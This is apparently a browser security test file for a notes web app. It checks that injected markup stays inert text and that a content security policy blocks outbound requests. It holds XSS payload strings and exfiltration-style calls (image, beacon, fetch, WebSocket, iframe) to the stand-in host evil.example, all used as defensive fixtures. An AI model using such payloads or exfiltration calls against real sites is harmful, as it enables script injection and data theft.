/** What people type stays text, what a library might try stays inside, and nothing about either is told to anybody. */
import { readFileSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser, type Profile, type TestBrowser } from '../src/testing/browser.ts'
import { people } from '../src/texts/app-people.ts'
import { app } from '../src/texts/app.ts'
import { setLanguage } from '../src/texts/language.ts'
import { shared } from '../src/texts/shared.ts'
import { startHost, type Host } from './host.ts'

const built = fileURLToPath(new URL('../dist/app', import.meta.url))
const evilName = '<img src=x onerror="document.title=1">'
const evilCircle = '"><script>document.title=2</script>'
const evilLine = '[a](javascript:document.title=3) <svg onload=document.title=4> {{5*5}} =HYPERLINK("https://evil.example")'

let host: Host
let browser: TestBrowser
let ana: Profile

beforeAll(async () => {
  setLanguage('en')
  host = await startHost()
  browser = await launchBrowser()
  ana = await browser.newProfile()
})

afterAll(async () => {
  await browser.close()
  await host.end()
})

test('[C25] script in a name, a title and a line is shown as the letters it is, and no policy was ever needed', async () => {
  const { page } = ana
  await page.addInitScript(() => {
    const seen: string[] = []
    Object.assign(globalThis, { violations: seen })
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.violatedDirective))
  })
  await page.goto(host.lines.map((line) => /http\S+#start=\S+/.exec(line)?.[0]).find((link) => link !== undefined) ?? '')
  await page.getByLabel(app.t('app.new.circleName')).fill(evilCircle)
  await page.getByLabel(app.t('app.new.myName')).fill(evilName)
  await page.getByRole('button', { name: app.t('app.start.new') }).click()
  await page.getByRole('heading', { name: app.t('app.welcome.title') }).waitFor({ timeout: 60_000 })
  await page.getByRole('navigation').getByText(app.t('app.people')).click()
  await page.getByRole('link', { name: people.t('people.myLine') }).click()
  await page.getByLabel(people.t('people.myLine.brings')).fill(evilLine)
  await page.getByRole('button', { name: shared.t('shared.keep') }).click()
  await page.getByRole('navigation').getByText(app.t('app.people')).click()
  await page.getByText(evilLine, { exact: false }).first().waitFor({ timeout: 60_000 })
  expect(await page.getByText(evilName).count()).toBeGreaterThan(0)
  expect(await page.getByText(evilCircle).count()).toBeGreaterThan(0)
  expect(await page.locator('main img, main script, main svg[onload], a[href^="javascript"]').count()).toBe(0)
  expect(await page.title()).toBe('Notes')
  // One: the app's own trial at its start, whether text can become code.
  expect(await page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations)).toEqual(['require-trusted-types-for'])
  expect(ana.problems).toEqual([])
})

test('[G08] a library that tries to call out is stopped by the policy, whatever way it tries', async () => {
  const { page, context } = await browser.newProfile()
  await page.goto(host.origin)
  await page.getByRole('heading', { name: app.t('app.start.title') }).waitFor()
  const stopped = await page.evaluate(async () => {
    const violated: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
    const fails = async (work: () => unknown): Promise<boolean> => {
      try {
        await work()
        return false
      } catch {
        return true
      }
    }
    const image = new Image()
    image.src = 'https://evil.example/a.png?words=secret'
    const style = document.createElement('link')
    Object.assign(style, { rel: 'stylesheet', href: 'https://evil.example/a.css' })
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(image, style, frame)
    navigator.sendBeacon('https://evil.example/beacon', 'secret')
    const fetched = await fails(() => fetch('https://evil.example/'))
    const opened = await fails(
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket('wss://evil.example/')
          socket.addEventListener('open', resolve)
          socket.addEventListener('error', reject)
        }),
    )
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)))
    return { fetched, opened, violated }
  })
  expect(stopped.fetched).toBe(true)
  expect(stopped.opened).toBe(true)
  expect(new Set(stopped.violated)).toEqual(new Set(['img-src', 'style-src-elem', 'frame-src', 'connect-src']))
  await context.close()
})

test('[E13] no answer asks for reports, and neither a refused load nor an error in the app sends any', async () => {
  for (const path of ['/', '/sw.js', '/v1/hello', '/nowhere']) {
    const response = await fetch(host.origin + path)
    for (const name of ['report-to', 'reporting-endpoints', 'nel', 'content-security-policy-report-only', 'expect-ct'])
      expect(response.headers.get(name), `${path} ${name}`).toBeNull()
    expect(response.headers.get('content-security-policy') ?? '').not.toMatch(/report-/)
  }
  const { page, context, requests } = await browser.newProfile()
  await page.goto(host.origin)
  await page.getByRole('heading', { name: app.t('app.start.title') }).waitFor()
  const before = requests.length
  await page.evaluate(async () => {
    const image = new Image()
    image.src = 'https://evil.example/a.png'
    document.body.append(image)
    dispatchEvent(new ErrorEvent('error', { message: 'secret words', error: new Error('secret words') }))
    void Promise.reject(new Error('secret words'))
    await new Promise((resolve) => setTimeout(resolve, 0))
  })
  expect(requests.slice(before).filter((address) => !address.startsWith('https://evil.example'))).toEqual([])
  await context.close()
})

test('[E09] there is no notice outside the app that could carry a word: no push, no notification, no mail', () => {
  const scripts = readdirSync(built, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile() && /\.(js|html|webmanifest)$/.test(entry.name))
  expect(scripts.length).toBeGreaterThan(3)
  for (const entry of scripts)
    expect(readFileSync(join(entry.parentPath, entry.name), 'utf8'), entry.name).not.toMatch(
      /pushManager|PushManager|showNotification|new Notification|mailto:/,
    )
})
